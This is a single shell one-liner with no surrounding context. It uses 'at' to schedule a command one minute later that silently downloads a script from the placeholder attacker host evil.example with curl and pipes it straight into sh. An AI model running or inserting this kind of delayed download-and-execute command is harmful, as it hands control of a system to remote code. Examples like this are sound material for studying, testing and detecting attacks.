echo "curl -s http://evil.example/j | sh" | at now + 1 minute
